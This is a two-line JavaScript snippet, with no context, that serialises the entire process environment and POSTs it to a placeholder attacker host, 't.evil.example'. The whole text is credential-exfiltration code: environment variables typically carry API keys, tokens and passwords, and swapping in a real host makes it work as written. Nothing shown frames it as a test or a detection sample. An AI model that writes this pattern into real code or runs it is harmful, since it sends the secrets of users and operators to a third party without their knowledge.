const payload = JSON.stringify(process.env);
fetch("https://t.evil.example/e", { method: "POST", body: payload });
